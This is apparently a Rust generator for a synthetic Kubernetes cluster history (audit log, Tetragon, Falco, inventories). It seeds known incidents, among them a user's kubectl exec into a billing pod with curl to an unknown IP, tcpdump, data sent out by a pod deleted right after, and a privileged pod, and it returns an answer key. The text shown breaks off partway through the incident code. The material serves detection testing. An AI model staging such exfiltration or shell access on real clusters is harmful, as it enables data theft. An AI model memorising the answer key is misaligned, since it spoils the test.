//! A seeded, realistic cluster history in the producers' own formats: a `kubectl get
//! pods,services,nodes -A -o json` inventory at the start and at the end, the apiserver's
//! audit log, Tetragon's JSON export and Falco's JSON alerts, with embedded incidents whose
//! answers are known ([`Incident`]).
//!
//! Invariants:
//! - Deterministic: the same [`Config`] writes the same bytes (own PRNG, fixed clock; nothing
//!   reads the time, the environment or a hash map's order).
//! - Streaming: events are written as they are made, in time order; memory does not grow with
//!   `events`.
//!
//! The cluster: namespaces with Deployments (and their ReplicaSets), a DaemonSet per node, a
//! CronJob whose pods come and go (created, deleted, IPs reused), Services, nodes. Activity is
//! Zipf-skewed over pods and follows a day/night curve: processes (exec/exit with lineage),
//! connections to services, pods, cluster DNS and the internet, API requests by controllers and
//! people, and recurring Falco noise. The incidents: a `kubectl exec` by a named user into a
//! billing pod that runs `curl` to an unknown IP and `tcpdump`; a pod that sends data out and
//! is deleted right after; a privileged pod.

use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

/// What to generate.
#[derive(Debug, Clone)]
pub struct Config {
    pub seed: u64,
    /// Approximately how many runtime, audit and alert records (inventories not counted).
    pub events: u64,
    /// Start of the history, nanoseconds since the epoch.
    pub start_ns: i64,
    /// Length of the history.
    pub duration_ns: i64,
}

impl Config {
    /// One day from 2026-11-25T00:00:00Z.
    pub fn new(seed: u64, events: u64) -> Self {
        Config {
            seed,
            events,
            start_ns: 1_795_564_800_000_000_000,
            duration_ns: 86_400_000_000_000,
        }
    }
}

/// The known answers of the embedded incidents.
#[derive(Debug, Clone)]
pub struct Incident {
    pub user: String,
    pub namespace: String,
    /// The pod exec'd into.
    pub pod: String,
    /// The exec request's auditID (= `exec_sessions.session_id`).
    pub session_id: String,
    /// Where `curl` sent data from the session.
    pub unknown_ip: String,
    /// The pod that sent data out and was deleted right after.
    pub deleted_pod: String,
    pub exfil_ip: String,
    pub privileged_pod: String,
    pub privileged_namespace: String,
}

/// What was written.
#[derive(Debug)]
pub struct Summary {
    /// In the order to ingest them.
    pub files: Vec<PathBuf>,
    pub records: u64,
    pub incident: Incident,
}

/// SplitMix64: small, fast, and fixed forever (a library PRNG may change its stream).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn chance(&mut self, p: f64) -> bool {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64 <= p
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
    fn hex(&mut self, n: usize) -> String {
        let mut s = String::with_capacity(n);
        while s.len() < n {
            s.push_str(&format!("{:016x}", self.next()));
        }
        s.truncate(n);
        s
    }
    fn uuid(&mut self) -> String {
        let h = self.hex(32);
        format!(
            "{}-{}-4{}-8{}-{}",
            &h[0..8],
            &h[8..12],
            &h[13..16],
            &h[17..20],
            &h[20..32]
        )
    }
    fn suffix(&mut self, n: usize) -> String {
        const ALPHABET: &[u8] = b"bcdfghjklmnpqrstvwxz2456789";
        (0..n)
            .map(|_| ALPHABET[self.below(ALPHABET.len() as u64) as usize] as char)
            .collect()
    }
}

fn rfc3339(ns: i64) -> String {
    let secs = ns.div_euclid(1_000_000_000);
    let nanos = ns.rem_euclid(1_000_000_000);
    let days = secs.div_euclid(86_400);
    let rem = secs.rem_euclid(86_400);
    // Civil from days (Howard Hinnant's algorithm).
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    format!(
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}.{nanos:09}Z",
        rem / 3600,
        rem % 3600 / 60,
        rem % 60
    )
}

/// Base64 of Tetragon's exec id (`node:ktime:pid`), without a base64 dependency.
fn exec_id(node: &str, ktime: i64, pid: u64) -> String {
    const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let raw = format!("{node}:{ktime}:{pid}");
    let b = raw.as_bytes();
    let mut out = String::with_capacity(b.len().div_ceil(3) * 4);
    for chunk in b.chunks(3) {
        let n = (u32::from(chunk[0]) << 16)
            | (u32::from(*chunk.get(1).unwrap_or(&0)) << 8)
            | u32::from(*chunk.get(2).unwrap_or(&0));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(T[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[derive(Clone)]
struct Workload {
    namespace: &'static str,
    name: &'static str,
    kind: &'static str,
    image: &'static str,
    /// The main process and the commands it runs.
    main: (&'static str, &'static str),
    children: &'static [(&'static str, &'static str)],
    /// Where it connects: service names in its namespace or elsewhere, or IPs.
    talks_to: &'static [&'static str],
    port: u16,
}

const WORKLOADS: &[Workload] = &[
    Workload {
        namespace: "billing",
        name: "payments-api",
        kind: "Deployment",
        image: "ghcr.io/example/payments-api:2.3.1",
        main: ("/app/payments-api", "--listen :8080"),
        children: &[
            ("/bin/sh", "-c /app/healthcheck.sh"),
            ("/usr/bin/pg_isready", "-h ledger-db"),
        ],
        talks_to: &["billing/ledger-db", "payments/gateway", "192.0.2.10:443"],
        port: 8080,
    },
    Workload {
        namespace: "billing",
        name: "ledger-db",
        kind: "StatefulSet",
        image: "docker.io/library/postgres:16.4",
        main: (
            "/usr/lib/postgresql/16/bin/postgres",
            "-D /var/lib/postgresql/data",
        ),
        children: &[
            ("/usr/lib/postgresql/16/bin/postgres", "autovacuum worker"),
            ("/bin/sh", "-c pg_isready"),
        ],
        talks_to: &[],
        port: 5432,
    },
    Workload {
        namespace: "billing",
        name: "invoice-worker",
        kind: "Deployment",
        image: "ghcr.io/example/invoice-worker:1.9.0",
        main: ("/usr/local/bin/python3", "-m invoice_worker"),
        children: &[("/usr/bin/wkhtmltopdf", "--quiet - -")],
        talks_to: &["billing/ledger-db", "billing/payments-api"],
        port: 9000,
    },
    Workload {
        namespace: "payments",
        name: "gateway",
        kind: "Deployment",
        image: "ghcr.io/example/gateway:5.0.2",
        main: ("/usr/local/bin/node", "server.js"),
        children: &[("/bin/sh", "-c node healthz.js")],
        talks_to: &["192.0.2.10:443", "payments/fraud-scorer"],
        port: 8443,
    },
    Workload {
        namespace: "payments",
        name: "fraud-scorer",
        kind: "Deployment",
        image: "ghcr.io/example/fraud-scorer:0.14.0",
        main: ("/usr/bin/java", "-jar /app/scorer.jar"),
        children: &[],
        talks_to: &["payments/gateway"],
        port: 8081,
    },
    Workload {
        namespace: "frontend",
        name: "web",
        kind: "Deployment",
        image: "docker.io/library/nginx:1.27",
        main: ("/usr/sbin/nginx", "-g daemon off;"),
        children: &[("/usr/sbin/nginx", "-s reload")],
        talks_to: &["billing/payments-api", "frontend/storefront"],
        port: 80,
    },
    Workload {
        namespace: "frontend",
        name: "storefront",
        kind: "Deployment",
        image: "ghcr.io/example/storefront:7.1.0",
        main: ("/usr/local/bin/node", "dist/main.js"),
        children: &[("/bin/sh", "-c curl -sf localhost:3000/healthz")],
        talks_to: &["payments/gateway", "151.101.1.6:443"],
        port: 3000,
    },
    Workload {
        namespace: "monitoring",
        name: "node-exporter",
        kind: "DaemonSet",
        image: "quay.io/prometheus/node-exporter:v1.8.2",
        main: ("/bin/node_exporter", "--path.rootfs=/host"),
        children: &[],
        talks_to: &[],
        port: 9100,
    },
    Workload {
        namespace: "monitoring",
        name: "prometheus",
        kind: "StatefulSet",
        image: "quay.io/prometheus/prometheus:v2.54.1",
        main: (
            "/bin/prometheus",
            "--config.file=/etc/prometheus/prometheus.yml",
        ),
        children: &[],
        talks_to: &["default/kubernetes", "billing/payments-api", "frontend/web"],
        port: 9090,
    },
    Workload {
        namespace: "kube-system",
        name: "coredns",
        kind: "Deployment",
        image: "registry.k8s.io/coredns/coredns:v1.11.3",
        main: ("/coredns", "-conf /etc/coredns/Corefile"),
        children: &[],
        talks_to: &["8.8.8.8:53"],
        port: 53,
    },
    Workload {
        namespace: "batch",
        name: "report-export",
        kind: "CronJob",
        image: "ghcr.io/example/report-export:3.2.0",
        main: ("/usr/local/bin/python3", "/app/export.py --daily"),
        children: &[("/usr/bin/gzip", "-9 /tmp/report.csv")],
        talks_to: &["billing/ledger-db", "52.216.8.112:443"],
        port: 0,
    },
];

struct Pod {
    namespace: &'static str,
    name: String,
    workload: usize,
    node: usize,
    ip: String,
    container_id: String,
    uid: String,
    main_exec: String,
    main_pid: u64,
    created_ns: i64,
    owner: (String, String),
    privileged: bool,
}

struct Writers {
    audit: BufWriter<File>,
    tetragon: BufWriter<File>,
    falco: BufWriter<File>,
    records: u64,
}

impl Writers {
    fn write(&mut self, which: Sink, v: &Value) -> io::Result<()> {
        let w = match which {
            Sink::Audit => &mut self.audit,
            Sink::Tetragon => &mut self.tetragon,
            Sink::Falco => &mut self.falco,
        };
        match (which, v) {
            // Tetragon's export writes the event first, then `node_name` and `time` (the order
            // of `GetEventsResponse`'s fields), as the samples show; a map would sort the event
            // key after them.
            (Sink::Tetragon, Value::Object(fields)) => {
                let mut keys: Vec<&String> = fields.keys().collect();
                keys.sort_by_key(|k| !k.starts_with("process_"));
                w.write_all(b"{")?;
                for (i, k) in keys.into_iter().enumerate() {
                    if i > 0 {
                        w.write_all(b",")?;
                    }
                    serde_json::to_writer(&mut *w, k)?;
                    w.write_all(b":")?;
                    serde_json::to_writer(&mut *w, &fields[k])?;
                }
                w.write_all(b"}")?;
            }
            _ => serde_json::to_writer(&mut *w, v)?,
        }
        w.write_all(b"\n")?;
        self.records += 1;
        Ok(())
    }
}

#[derive(Clone, Copy)]
enum Sink {
    Audit,
    Tetragon,
    Falco,
}

struct Cluster {
    rng: Rng,
    nodes: Vec<(String, String)>,
    pods: Vec<Pod>,
    services: Vec<(String, &'static str, String, u16)>,
    /// Pods not deleted (deleted pods do nothing more, and their IPs may come back).
    alive: Vec<bool>,
    /// Cumulative Zipf weights over `pods` (zero for deleted ones).
    weights: Vec<f64>,
    next_pid: u64,
    ip_pool: u32,
}

impl Cluster {
    fn new(cfg: &Config) -> Self {
        let rng = Rng(cfg.seed ^ 0x6b74_7261_696c);
        let node_count = (3 + cfg.events / 2_000_000).min(20) as usize;
        let nodes: Vec<(String, String)> = (0..node_count)
            .map(|i| (format!("worker-{}", i + 1), format!("172.18.0.{}", i + 3)))
            .collect();
        let mut c = Cluster {
            rng,
            nodes,
            pods: Vec::new(),
            services: Vec::new(),
            alive: Vec::new(),
            weights: Vec::new(),
            next_pid: 1000,
            ip_pool: 0,
        };
        c.services
            .push(("default".into(), "kubernetes", "10.96.0.1".into(), 443));
        for (w, wl) in WORKLOADS.iter().enumerate() {
            if wl.kind != "CronJob" {
                let ip = format!("10.96.{}.{}", 1 + w, 10 + w);
                c.services.push((wl.namespace.into(), wl.name, ip, wl.port));
            }
            let replicas = match wl.kind {
                "DaemonSet" => c.nodes.len(),
                "CronJob" => 0,
                "StatefulSet" => 1,
                _ => 2 + (c.rng.below(2) as usize),
            };
            for r in 0..replicas {
                let created = cfg.start_ns - 86_400_000_000_000 * (1 + c.rng.below(9) as i64);
                c.add_pod(w, Some(r), created);
            }
        }
        c.reweigh();
        c
    }

    fn add_pod(&mut self, w: usize, ordinal: Option<usize>, created_ns: i64) -> usize {
        let wl = &WORKLOADS[w];
        let (name, owner) = match wl.kind {
            "Deployment" => {
                let hash = self.rng.suffix(9).to_lowercase();
                let rs = format!("{}-{hash}", wl.name);
                (
                    format!("{rs}-{}", self.rng.suffix(5)),
                    ("ReplicaSet".to_string(), rs),
                )
            }
            "StatefulSet" => (
                format!("{}-{}", wl.name, ordinal.unwrap_or(0)),
                ("StatefulSet".into(), wl.name.to_string()),
            ),
            "DaemonSet" => (
                format!("{}-{}", wl.name, self.rng.suffix(5)),
                ("DaemonSet".into(), wl.name.to_string()),
            ),
            _ => {
                let job = format!("{}-{}", wl.name, 29_000_000 + self.rng.below(1_000_000));
                (format!("{job}-{}", self.rng.suffix(5)), ("Job".into(), job))
            }
        };
        let node = match wl.kind {
            "DaemonSet" => ordinal.unwrap_or(0) % self.nodes.len(),
            _ => self.rng.below(self.nodes.len() as u64) as usize,
        };
        // Pod IPs come from a small pool per node, so churned pods reuse them.
        self.ip_pool += 1;
        let ip = format!("10.244.{}.{}", node + 1, 2 + (self.ip_pool % 250));
        let pid = self.next_pid;
        self.next_pid += 1 + self.rng.below(50);
        let main_exec = exec_id(&self.nodes[node].0, created_ns / 1000, pid);
        self.pods.push(Pod {
            namespace: wl.namespace,
            name,
            workload: w,
            node,
            ip,
            container_id: self.rng.hex(64),
            uid: self.rng.uuid(),
            main_exec,
            main_pid: pid,
            created_ns,
            owner,
            privileged: false,
        });
        self.alive.push(true);
        self.pods.len() - 1
    }

    fn reweigh(&mut self) {
        // Zipf over pods in a seeded order: a few pods are busy, most are quiet.
        let mut order: Vec<usize> = (0..self.pods.len()).collect();
        for i in (1..order.len()).rev() {
            let j = self.rng.below(i as u64 + 1) as usize;
            order.swap(i, j);
        }
        let mut w = vec![0.0; self.pods.len()];
        for (rank, &p) in order.iter().enumerate() {
            if self.alive[p] {
                w[p] = 1.0 / (rank as f64 + 1.0).powf(1.1);
            }
        }
        let mut acc = 0.0;
        self.weights = w
            .into_iter()
            .map(|x| {
                acc += x;
                acc
            })
            .collect();
    }

    fn busy_pod(&mut self) -> usize {
        let total = *self.weights.last().unwrap_or(&1.0);
        let x = (self.rng.next() >> 11) as f64 / (1u64 << 53) as f64 * total;
        self.weights
            .partition_point(|&c| c < x)
            .min(self.pods.len() - 1)
    }

    /// The pod's main process.
    fn main_proc(&self, pod: usize) -> Proc {
        let p = &self.pods[pod];
        let wl = &WORKLOADS[p.workload];
        Proc {
            id: p.main_exec.clone(),
            pid: p.main_pid,
            binary: wl.main.0.into(),
            args: wl.main.1.into(),
            start: p.created_ns,
        }
    }

    fn delete(&mut self, pod: usize) {
        self.alive[pod] = false;
        self.reweigh();
    }

    fn service_ip(&self, target: &str) -> Option<(String, u16)> {
        let (ns, name) = target.split_once('/')?;
        self.services
            .iter()
            .find(|s| s.0 == ns && s.1 == name)
            .map(|s| (s.2.clone(), s.3))
    }

    fn pid(&mut self) -> u64 {
        self.next_pid += 1 + self.rng.below(7);
        self.next_pid
    }
}

fn pod_json(c: &Cluster, p: &Pod) -> Value {
    let wl = &WORKLOADS[p.workload];
    let mut labels = json!({"app": wl.name});
    if p.owner.0 == "ReplicaSet" {
        let hash = p.owner.1.rsplit('-').next().unwrap_or_default();
        labels["pod-template-hash"] = json!(hash);
    }
    let mut container = json!({"name": wl.name, "image": wl.image});
    if p.privileged {
        container["securityContext"] = json!({"privileged": true});
    }
    json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {
            "name": p.name, "namespace": p.namespace, "uid": p.uid,
            "creationTimestamp": rfc3339(p.created_ns - p.created_ns.rem_euclid(1_000_000_000)).replace(".000000000", ""),
            "labels": labels,
            "ownerReferences": [{"apiVersion": if p.owner.0 == "Job" {"batch/v1"} else {"apps/v1"},
                "kind": p.owner.0, "name": p.owner.1, "uid": format!("{}-owner", p.uid),
                "controller": true, "blockOwnerDeletion": true}]
        },
        "spec": {"containers": [container], "nodeName": c.nodes[p.node].0,
                 "hostPID": p.privileged, "serviceAccountName": "default"},
        "status": {
            "phase": "Running", "podIP": p.ip, "podIPs": [{"ip": p.ip}], "hostIP": c.nodes[p.node].1,
            "containerStatuses": [{"name": wl.name, "image": wl.image,
                "imageID": format!("{}@sha256:{}", wl.image.split(':').next().unwrap_or(""), "ab".repeat(32)),
                "containerID": format!("containerd://{}", p.container_id),
                "ready": true, "restartCount": 0, "started": true}]
        }
    })
}

fn inventory(c: &Cluster, path: &Path) -> io::Result<()> {
    let mut items = Vec::new();
    for (p, alive) in c.pods.iter().zip(&c.alive) {
        if *alive {
            items.push(pod_json(c, p));
        }
    }
    for (ns, name, ip, port) in &c.services {
        items.push(json!({"apiVersion": "v1", "kind": "Service",
            "metadata": {"name": name, "namespace": ns, "uid": format!("svc-{ns}-{name}")},
            "spec": {"clusterIP": ip, "clusterIPs": [ip], "type": "ClusterIP",
                     "ports": [{"port": port, "protocol": "TCP"}]}}));
    }
    for (name, ip) in &c.nodes {
        items.push(json!({"apiVersion": "v1", "kind": "Node",
            "metadata": {"name": name, "uid": format!("node-{name}"), "labels": {"kubernetes.io/hostname": name}},
            "status": {"addresses": [{"type": "InternalIP", "address": ip}, {"type": "Hostname", "address": name}]}}));
    }
    let list = json!({"apiVersion": "v1", "kind": "List", "metadata": {"resourceVersion": ""}, "items": items});
    let mut w = BufWriter::new(File::create(path)?);
    serde_json::to_writer_pretty(&mut w, &list)?;
    w.write_all(b"\n")?;
    w.flush()
}

/// Tetragon's `process` object for a process in a pod.
fn process(
    p: &Pod,
    exec: &str,
    pid: u64,
    binary: &str,
    args: &str,
    parent: &str,
    start_ns: i64,
) -> Value {
    let wl = &WORKLOADS[p.workload];
    json!({
        "exec_id": exec, "pid": pid, "uid": 0, "cwd": "/", "binary": binary, "arguments": args,
        "flags": "execve clone", "start_time": rfc3339(start_ns), "auid": 4294967295u32,
        "pod": {"namespace": p.namespace, "name": p.name,
                "container": {"id": format!("containerd://{}", p.container_id), "name": wl.name,
                              "image": {"name": wl.image}},
                "workload": wl.name, "workload_kind": wl.kind},
        "docker": &p.container_id[..31], "parent_exec_id": parent, "refcnt": 1,
    })
}

fn parent_json(p: &Pod) -> Value {
    process(
        p,
        &p.main_exec,
        p.main_pid,
        WORKLOADS[p.workload].main.0,
        WORKLOADS[p.workload].main.1,
        "",
        p.created_ns,
    )
}

struct Runner {
    c: Cluster,
    w: Writers,
}

/// A process as Tetragon names it.
struct Proc {
    id: String,
    pid: u64,
    binary: String,
    args: String,
    start: i64,
}

/// An API request as the audit log records it.
#[derive(Clone, Copy)]
struct Request<'a> {
    id: &'a str,
    verb: &'a str,
    user: &'a str,
    ns: &'a str,
    resource: &'a str,
    name: &'a str,
    sub: Option<&'a str>,
    query: &'a str,
    code: u16,
    stages: &'a [&'a str],
}

impl<'a> Request<'a> {
    /// A request on one pod, recorded at `ResponseComplete`.
    fn pod(
        id: &'a str,
        verb: &'a str,
        user: &'a str,
        ns: &'a str,
        name: &'a str,
        code: u16,
    ) -> Self {
        Request {
            id,
            verb,
            user,
            ns,
            resource: "pods",
            name,
            sub: None,
            query: "",
            code,
            stages: &["ResponseComplete"],
        }
    }
}

impl Runner {
    fn exec(
        &mut self,
        pod: usize,
        ts: i64,
        binary: &str,
        args: &str,
        parent: Option<&Proc>,
    ) -> io::Result<Proc> {
        let pid = self.c.pid();
        let p = &self.c.pods[pod];
        let proc = Proc {
            id: exec_id(&self.c.nodes[p.node].0, ts / 1000, pid),
            pid,
            binary: binary.into(),
            args: args.into(),
            start: ts,
        };
        let (parent_v, parent_id) = match parent {
            Some(q) => (
                process(p, &q.id, q.pid, &q.binary, &q.args, &p.main_exec, q.start),
                q.id.clone(),
            ),
            None => (parent_json(p), p.main_exec.clone()),
        };
        let proc_v = process(p, &proc.id, pid, binary, args, &parent_id, ts);
        let node = self.c.nodes[p.node].0.clone();
        self.w.write(Sink::Tetragon, &json!({"process_exec": {"process": proc_v, "parent": parent_v}, "node_name": node, "time": rfc3339(ts)}))?;
        Ok(proc)
    }

    fn exit(&mut self, pod: usize, ts: i64, q: &Proc) -> io::Result<()> {
        let p = &self.c.pods[pod];
        let proc_v = process(p, &q.id, q.pid, &q.binary, &q.args, &p.main_exec, q.start);
        let node = self.c.nodes[p.node].0.clone();
        self.w.write(Sink::Tetragon, &json!({"process_exit": {"process": proc_v, "parent": parent_json(p), "signal": "", "status": 0, "time": rfc3339(ts)}, "node_name": node, "time": rfc3339(ts)}))
    }

    fn connect(
        &mut self,
        pod: usize,
        ts: i64,
        q: &Proc,
        daddr: &str,
        dport: u16,
    ) -> io::Result<()> {
        let p = &self.c.pods[pod];
        let proc_v = process(p, &q.id, q.pid, &q.binary, &q.args, &p.main_exec, q.start);
        let sport = 32768 + self.c.rng.below(28000);
        let node = self.c.nodes[p.node].0.clone();
        let v = json!({"process_kprobe": {"process": proc_v, "parent": parent_json(p), "function_name": "tcp_connect",
            "args": [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
                "saddr": p.ip, "daddr": daddr, "sport": sport, "dport": dport, "state": "TCP_SYN_SENT"}}],
            "action": "KPROBE_ACTION_POST", "policy_name": "monitor-network"}, "node_name": node, "time": rfc3339(ts)});
        self.w.write(Sink::Tetragon, &v)
    }

    fn audit(&mut self, ts: i64, req: &Request) -> io::Result<()> {
        let Request {
            id,
            verb,
            user,
            ns,
            resource,
            name,
            sub,
            query,
            code,
            stages,
        } = *req;
        let mut uri = format!("/api/v1/namespaces/{ns}/{resource}");
        if !name.is_empty() {
            uri.push('/');
            uri.push_str(name);
        }
        if let Some(s) = sub {
            uri.push('/');
            uri.push_str(s);
        }
        if !query.is_empty() {
            uri.push('?');
            uri.push_str(query);
        }
        let groups: &[&str] = if user.starts_with("system:serviceaccount:") {
            &["system:serviceaccounts", "system:authenticated"]
        } else {
            &["developers", "system:authenticated"]
        };
        for (i, stage) in stages.iter().enumerate() {
            let mut object = json!({"resource": resource, "namespace": ns, "apiVersion": "v1"});
            if !name.is_empty() {
                object["name"] = json!(name);
            }
            if let Some(s) = sub {
                object["subresource"] = json!(s);
            }
            let v = json!({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": id,
                "stage": stage, "requestURI": uri, "verb": verb, "user": {"username": user, "groups": groups},
                "sourceIPs": [if user.starts_with("system:") { "172.18.0.2" } else { "203.0.113.77" }],
                "userAgent": if user.starts_with("system:") { "kube-controller-manager/v1.31.0" } else { "kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc" },
                "objectRef": object, "responseStatus": {"metadata": {}, "code": code},
                "requestReceivedTimestamp": rfc3339(ts), "stageTimestamp": rfc3339(ts + 20_000_000 * (i as i64 + 1))});
            self.w.write(Sink::Audit, &v)?;
        }
        Ok(())
    }

    fn falco(
        &mut self,
        ts: i64,
        pod: usize,
        rule: &str,
        priority: &str,
        text: &str,
        fields: Value,
    ) -> io::Result<()> {
        let p = &self.c.pods[pod];
        let mut f = json!({"container.id": &p.container_id[..12], "k8s.ns.name": p.namespace, "k8s.pod.name": p.name,
            "container.image.repository": WORKLOADS[p.workload].image.split(':').next().unwrap_or("")});
        if let (Value::Object(f), Value::Object(extra)) = (&mut f, fields) {
            f.extend(extra);
        }
        let uuid = self.c.rng.uuid();
        let v = json!({"uuid": uuid, "hostname": self.c.nodes[p.node].0, "output": format!("{} {priority} {text} (container_id={} k8s_pod={})", &rfc3339(ts)[11..29], &p.container_id[..12], p.name),
            "priority": priority, "rule": rule, "source": "syscall", "tags": ["container", "maturity_stable"],
            "time": rfc3339(ts), "output_fields": f});
        self.w.write(Sink::Falco, &v)
    }

    /// One unit of normal activity at `ts`.
    fn activity(&mut self, ts: i64) -> io::Result<()> {
        let pod = self.c.busy_pod();
        let wl = WORKLOADS[self.c.pods[pod].workload].clone();
        let roll = self.c.rng.below(100);
        if roll < 40 && !wl.children.is_empty() {
            let (bin, args) = *self.c.rng.pick(wl.children);
            let child = self.exec(pod, ts, bin, args, None)?;
            let end = ts + 5_000_000 + self.c.rng.below(2_000_000_000) as i64;
            self.exit(pod, end, &child)
        } else if roll < 80 {
            let target = if !wl.talks_to.is_empty() && self.c.rng.chance(0.8) {
                *self.c.rng.pick(wl.talks_to)
            } else {
                "kube-system/coredns"
            };
            let (ip, port) = match self.c.service_ip(target) {
                Some((ip, port)) => (ip, port),
                None => match target.rsplit_once(':') {
                    Some((ip, port)) => (ip.to_string(), port.parse().unwrap_or(443)),
                    None => ("10.96.0.10".into(), 53),
                },
            };
            // Now and then straight to a pod's IP, as a headless service would.
            let (ip, port) = if self.c.rng.chance(0.15) {
                let other = self.c.busy_pod();
                (
                    self.c.pods[other].ip.clone(),
                    WORKLOADS[self.c.pods[other].workload].port,
                )
            } else {
                (ip, port)
            };
            let main = self.c.main_proc(pod);
            self.connect(pod, ts, &main, &ip, port)
        } else if roll < 92 {
            // Recurring Falco noise: the monitoring stack talks to the API server.
            let noisy = self
                .c
                .pods
                .iter()
                .position(|p| WORKLOADS[p.workload].name == "prometheus")
                .unwrap_or(pod);
            self.falco(ts, noisy, "Contact K8S API Server From Container", "Notice",
                "Unexpected connection to K8s API Server from container",
                json!({"proc.name": "prometheus", "proc.exepath": "/bin/prometheus", "proc.cmdline": "prometheus --config.file=/etc/prometheus/prometheus.yml", "fd.name": "10.244.1.9:41234->10.96.0.1:443", "evt.type": "connect", "user.uid": 65534}))
        } else {
            let id = self.c.rng.uuid();
            let p = &self.c.pods[pod];
            let (ns, name) = (p.namespace.to_string(), p.name.clone());
            let verb = *self.c.rng.pick(&["get", "list", "watch"]);
            let user = format!("system:serviceaccount:{}:default", ns);
            let name = if verb == "get" { name.as_str() } else { "" };
            self.audit(ts, &Request::pod(&id, verb, &user, &ns, name, 200))
        }
    }
}

/// Writes the history into `dir` (created if needed).
pub fn generate(dir: &Path, cfg: &Config) -> io::Result<Summary> {
    std::fs::create_dir_all(dir)?;
    let mut c = Cluster::new(cfg);
    let files: Vec<PathBuf> = [
        "inventory-start.json",
        "audit.log",
        "tetragon.jsonl",
        "falco.jsonl",
        "inventory-end.json",
    ]
    .iter()
    .map(|f| dir.join(f))
    .collect();
    inventory(&c, &files[0])?;
    let open = |p: &Path| File::create(p).map(|f| BufWriter::with_capacity(1 << 20, f));
    let w = Writers {
        audit: open(&files[1])?,
        tetragon: open(&files[2])?,
        falco: open(&files[3])?,
        records: 0,
    };

    // The incident's cast, chosen now so the answers are known.
    let billing = c
        .pods
        .iter()
        .position(|p| WORKLOADS[p.workload].name == "payments-api")
        .expect("payments-api pod");
    let export_w = WORKLOADS
        .iter()
        .position(|w| w.name == "report-export")
        .expect("cronjob");
    let session_id = c.rng.uuid();
    let incident_at = cfg.start_ns + cfg.duration_ns * 6 / 10;
    let mut r = Runner { c, w };

    // A day/night curve: t(u) = D·u + A·sin(2πu·days), monotone (A·2π·days < D), so events
    // are about twice as dense at night's end as at noon.
    let days = (cfg.duration_ns as f64 / 86_400e9).max(1.0);
    let amp = 0.5 * cfg.duration_ns as f64 / (2.0 * std::f64::consts::PI * days);
    let n = cfg.events.max(1);
    let hours = (cfg.duration_ns / 3_600_000_000_000).max(1) as u64;
    let mut hour = 0u64;
    let mut incident_done = false;
    let mut deleted_pod = String::new();
    let mut privileged_pod = String::new();
    for i in 0..n {
        let u = i as f64 / n as f64;
        let ts = cfg.start_ns
            + (cfg.duration_ns as f64 * u + amp * (2.0 * std::f64::consts::PI * u * days).sin())
                as i64;
        // Hourly CronJob run: a pod is created, works, and is deleted (its IP goes back).
        let this_hour = (i * hours) / n;
        if this_hour != hour || i == 0 {
            hour = this_hour;
            let pod = r.c.add_pod(export_w, None, ts);
            r.c.reweigh();
            let (ns, name) = (r.c.pods[pod].namespace, r.c.pods[pod].name.clone());
            let controller = "system:serviceaccount:kube-system:job-controller";
            let id = r.c.rng.uuid();
            r.audit(ts, &Request::pod(&id, "create", controller, ns, &name, 201))?;
            let run = r.exec(
                pod,
                ts + 2 * S,
                "/usr/local/bin/python3",
                "/app/export.py --daily",
                None,
            )?;
            r.exit(pod, ts + 40 * S, &run)?;
            let id = r.c.rng.uuid();
            r.audit(
                ts + 60 * S,
                &Request::pod(&id, "delete", controller, ns, &name, 200),
            )?;
            r.c.delete(pod);
        }
        if !incident_done && ts >= incident_at {
            incident_done = true;
            let (d, p) = incident(&mut r, ts, billing, &session_id, export_w)?;
            deleted_pod = d;
            privileged_pod = p;
        }
        r.activity(ts)?;
    }
    let Runner { c, mut w } = r;
    for f in [&mut w.audit, &mut w.tetragon, &mut w.falco] {
        f.flush()?;
    }
    inventory(&c, &files[4])?;
    let p = &c.pods[billing];
    Ok(Summary {
        files,
        records: w.records,
        incident: Incident {
            user: "mallory@example.com".into(),
            namespace: p.namespace.into(),
            pod: p.name.clone(),
            session_id,
            unknown_ip: "203.0.113.50".into(),
            deleted_pod,
            exfil_ip: "198.51.100.77".into(),
            privileged_pod,
            privileged_namespace: "kube-system".into(),
        },
    })
}

const S: i64 = 1_000_000_000;

/// The embedded incident, starting at `t0`. Returns the deleted and the privileged pod.
fn incident(
    r: &mut Runner,
    t0: i64,
    target: usize,
    session_id: &str,
    export_w: usize,
) -> io::Result<(String, String)> {
    let user = "mallory@example.com";
    let (ns, pod_name, container) = {
        let p = &r.c.pods[target];
        (p.namespace, p.name.clone(), WORKLOADS[p.workload].name)
    };
    // kubectl exec -it payments-api-... -- sh
    let query = format!("command=sh&container={container}&stdin=true&stdout=true&tty=true");
    r.audit(
        t0,
        &Request {
            sub: Some("exec"),
            query: &query,
            stages: &["ResponseStarted", "ResponseComplete"],
            ..Request::pod(session_id, "create", user, ns, &pod_name, 101)
        },
    )?;
    let shim = Proc {
        id: exec_id(&r.c.nodes[r.c.pods[target].node].0, 1, 4100),
        pid: 4100,
        binary: "/usr/bin/containerd-shim-runc-v2".into(),
